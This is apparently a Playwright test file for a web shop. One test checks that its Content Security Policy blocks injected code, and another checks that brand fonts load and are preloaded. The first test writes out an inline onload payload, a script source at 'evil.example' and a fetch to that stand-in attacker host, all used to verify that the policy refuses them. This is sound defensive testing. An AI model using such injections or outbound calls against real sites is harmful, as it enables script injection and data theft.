import { plainBoot } from './support/demo-products.ts';
import { expect, test } from './support/fixtures.ts';

// Every other test fails too if the policy stops something of the shop's: that is an error in the
// console.
test('injected code can neither run nor send anything', { tag: '@change' }, async ({ context }) => {
  // Not the test's own page: what is stopped here is an error in its console.
  const page = await context.newPage();
  const stopped: string[] = [];
  await page.exposeFunction('noteStopped', (what: string) => stopped.push(what));
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      const { noteStopped } = window as unknown as { noteStopped: (what: string) => void };
      noteStopped(`${effectiveDirective} ${blockedURI}`);
    });
  });
  await page.goto(`/products/${plainBoot.slug}`);
  const happened = await page.evaluate(async () => {
    const refused: string[] = [];
    const attempt = (name: string, act: () => void) => {
      try {
        act();
      } catch {
        refused.push(name);
      }
    };
    const script = document.createElement('script');
    attempt('code of a script', () => {
      script.textContent = 'window.stolen = 1';
    });
    attempt('address of a script', () => {
      script.src = 'https://evil.example/x.js';
    });
    const part = document.createElement('div');
    part.innerHTML = '<img src="/brand/icon.svg?" onload="window.stolen = 2">';
    document.body.append(part);
    await (part.firstElementChild as HTMLImageElement).decode();
    await fetch('https://evil.example/').catch(() => refused.push('call'));
    return { refused, stolen: (window as { stolen?: number }).stolen ?? null };
  });
  expect(happened).toEqual({
    refused: ['code of a script', 'address of a script', 'call'],
    stolen: null,
  });
  await expect.poll(() => stopped.sort().join('\n')).toContain('connect-src https://evil.example/');
  expect(stopped.join('\n')).toContain('script-src-attr inline');
});

test('a page shows the brand’s fonts and preloads them', { tag: '@change' }, async ({ page }) => {
  const html = await (await page.goto('/products'))?.text();
  await expect(page.getByRole('heading', { level: 1 })).toHaveCSS(
    'font-family',
    /^"Bricolage Grotesque", "Bricolage Grotesque Fallback", /,
  );
  const loaded = () =>
    page.evaluate(() =>
      [...document.fonts]
        .filter(({ status }) => status === 'loaded')
        .map(({ family }) => family.replaceAll('"', ''))
        .sort(),
    );
  await expect.poll(loaded).toEqual(['Bricolage Grotesque', 'Figtree']);
  expect(html?.match(/<link rel="preload" href="\/brand\/[\w-]+\.woff2" as="font"/g)).toHaveLength(
    2,
  );
});
